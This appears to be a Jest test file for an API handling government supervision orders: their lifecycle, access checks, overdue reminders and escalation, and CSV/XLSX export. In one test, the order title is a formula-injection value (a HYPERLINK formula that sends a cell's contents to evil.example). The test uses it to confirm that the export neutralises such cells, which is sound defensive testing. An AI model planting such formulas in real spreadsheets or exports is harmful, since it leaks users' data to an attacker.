// Supervision orders (督办): acknowledge (签收), reply (反馈, repeatable), close (办结销号) or return (退回); reminders (催办).
import { describe, expect, test } from '@jest/globals';
import { eventsOf, type TestContext } from '../../helpers/app.js';
import { freshSetupEachTest, type Setup } from './fixtures.js';

let t: TestContext;
let s: Setup;
freshSetupEachTest((app, fixture) => {
  t = app;
  s = fixture;
});

const order = (over: Record<string, unknown> = {}) => ({ unitId: s.nanning, campaignId: s.campaign.id, itemId: s.item.id, title: '督办：压缩审批时限', requirement: '3月5日前反馈整改情况', replyMethod: '书面报告', replyDueOn: '2027-03-05', ...over });

describe('supervision orders', () => {
  test('when an order is titled like a formula, then its CSV export neutralises the cell (OWASP CSV injection) and keeps the text', async () => {
    const title = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
    expect((await s.inspector.post('/v1/supervision-orders', order({ title, requirement: '@SUM(1+1)' }))).statusCode).toBe(201);
    const res = await s.admin.get('/v1/supervision-orders:export?format=csv');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"`);
    expect(res.body).toContain("'@SUM(1+1)");
    expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  test('when an order is answered on time, sent back, then answered late, then it is answered late (the column the scorecard counts says so)', async () => {
    const id = (await s.inspector.post('/v1/supervision-orders', order())).json().id;
    const editor = t.client(t.key(['unit_editor'], s.nanning));
    await editor.post(`/v1/supervision-orders/${id}:acknowledge`);
    expect((await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '已按期反馈' })).json()).toMatchObject({ answeredLate: false, replyCount: 1 });
    await s.admin.post(`/v1/supervision-orders/${id}:return`, { reason: '反馈走过场，重新反馈' });
    t.clock.set('2027-03-06T01:00:00Z');
    expect((await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '补充反馈' })).json()).toMatchObject({ status: 'replied', answeredLate: true, replyCount: 2 });
    expect((t.app.deps.sqlite.prepare('SELECT answered_late AS late FROM supervision_orders WHERE id = ?').get(id) as { late: number }).late).toBe(1);
  });

  test('when an order answered on time is sent back and answered again on time, then it stays on time', async () => {
    const id = (await s.inspector.post('/v1/supervision-orders', order())).json().id;
    const editor = t.client(t.key(['unit_editor'], s.nanning));
    await editor.post(`/v1/supervision-orders/${id}:acknowledge`);
    await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '已按期反馈' });
    await s.admin.post(`/v1/supervision-orders/${id}:return`, { reason: '请补充' });
    expect((await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '补充反馈' })).json()).toMatchObject({ answeredLate: false, replyCount: 2 });
  });

  test('the lifecycle: acknowledge, reply twice (the first after the deadline: answered late), return, reply, close; other units get 404', async () => {
    const created = await s.inspector.post('/v1/supervision-orders', order());
    expect(created.statusCode).toBe(201);
    expect(created.headers.location).toBe(`/v1/supervision-orders/${created.json().id}`);
    const id = created.json().id;
    const editor = t.client(t.key(['unit_editor'], s.nanning));
    const stranger = t.client(t.key(['unit_editor'], s.liuzhou));
    expect((await stranger.get(`/v1/supervision-orders/${id}`)).statusCode).toBe(404);
    expect((await stranger.post(`/v1/supervision-orders/${id}:acknowledge`)).statusCode).toBe(404);
    expect((await stranger.get('/v1/supervision-orders')).json().items).toEqual([]);
    expect((await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '已整改' })).json().code).toBe('INVALID_STATE_TRANSITION');
    expect((await editor.post(`/v1/supervision-orders/${id}:acknowledge`, {}, { 'if-match': '"9"' })).statusCode).toBe(412);
    expect((await editor.post(`/v1/supervision-orders/${id}:acknowledge`, {}, { 'if-match': '"1"' })).json()).toMatchObject({ status: 'acknowledged', version: 2 });
    t.clock.set('2027-03-06T01:00:00Z');
    expect((await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '正在整改' })).json()).toMatchObject({ status: 'replied', answeredLate: true, replyCount: 1 });
    expect((await editor.post(`/v1/supervision-orders/${id}:close`, {})).statusCode).toBe(403);
    expect((await s.admin.post(`/v1/supervision-orders/${id}:return`, { reason: '反馈不具体' })).json()).toMatchObject({ status: 'returned', returnReason: '反馈不具体' });
    expect((await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '审批时限已压缩至5日' })).json()).toMatchObject({ status: 'replied', replyCount: 2, answeredLate: true });
    expect((await s.admin.post(`/v1/supervision-orders/${id}:close`, { note: '办结' })).json()).toMatchObject({ status: 'closed', closingNote: '办结' });
    expect((await editor.get(`/v1/supervision-orders/${id}/replies`)).json().items.map((r: { content: string }) => r.content)).toEqual(['正在整改', '审批时限已压缩至5日']);
    expect(eventsOf(t.app, id).map((e) => e.action)).toEqual(['create', 'acknowledge', 'reply', 'return', 'reply', 'close']);
    expect((await s.admin.post('/v1/supervision-orders:remind')).json().reminded).toBe(0);
  });

  test('400 and nothing written for an item of another unit, an unknown unit or an impossible date; 403 for agency keys; the remind run is admin-only', async () => {
    const other = (await s.admin.post('/v1/rectification-items', { campaignId: s.campaign.id, title: '别的', leadUnitId: s.liuzhou, deadline: '2027-05-01' })).json();
    expect((await s.admin.post('/v1/supervision-orders', order({ itemId: other.id }))).json().errors[0].pointer).toBe('/itemId');
    expect((await s.admin.post('/v1/supervision-orders', order({ unitId: '01900000-0000-7000-8000-000000000000' }))).statusCode).toBe(400);
    expect((await s.admin.post('/v1/supervision-orders', order({ replyDueOn: '2027-02-29' }))).statusCode).toBe(400);
    expect((await t.client(t.key(['unit_editor'], s.nanning)).post('/v1/supervision-orders', order())).statusCode).toBe(403);
    expect((await s.inspector.post('/v1/supervision-orders:remind')).statusCode).toBe(403);
    expect((t.app.deps.sqlite.prepare('SELECT count(*) AS n FROM supervision_orders').get() as { n: number }).n).toBe(0);
  });

  test('reminders: one the day after the deadline, the next 3 days later escalating to the parent, none once replied; each with a feed event', async () => {
    const id = (await s.admin.post('/v1/supervision-orders', order())).json().id;
    const remind = async (at: string) => {
      t.clock.set(at);
      return (await s.admin.post('/v1/supervision-orders:remind')).json();
    };
    expect((await remind('2027-03-05T15:59:00Z')).reminded).toBe(0);
    expect(await remind('2027-03-05T16:00:00Z')).toMatchObject({ asOf: '2027-03-06', reminded: 1, escalated: 0 });
    expect((await remind('2027-03-08T02:00:00Z')).reminded).toBe(0);
    expect(await remind('2027-03-09T02:00:00Z')).toMatchObject({ reminded: 1, escalated: 1 });
    const editor = t.client(t.key(['unit_editor'], s.nanning));
    await editor.post(`/v1/supervision-orders/${id}:acknowledge`);
    await editor.post(`/v1/supervision-orders/${id}:reply`, { content: '已反馈' });
    expect((await remind('2027-03-20T02:00:00Z')).reminded).toBe(0);
    const events = eventsOf(t.app, id);
    expect(events.filter((e) => e.action === 'remind').length).toBe(2);
    expect(events.find((e) => e.action === 'escalate')!.unitId).toBe(t.unit.gx);
    expect((await t.client(t.key(['reader'], t.unit.gx)).get('/v1/supervision-orders?overdue=true')).json().items).toEqual([]);
  });

  test('exports the orders as csv with Chinese headers', async () => {
    await s.admin.post('/v1/supervision-orders', order());
    const res = await s.admin.get('/v1/supervision-orders:export?format=csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const [header, row] = res.body.replace(/^\uFEFF/, '').trim().split('\n');
    expect(header).toBe('序号,督办单位,督办事项,督办要求,反馈时限,状态,是否逾期,签收时间,首次反馈时间,是否逾期反馈,反馈次数,催办次数,上报上级单位');
    expect(row).toContain('南宁市,督办：压缩审批时限');
    const xlsx = await s.admin.get('/v1/supervision-orders:export?format=xlsx');
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.rawPayload.subarray(0, 2).toString()).toBe('PK');
  });
});
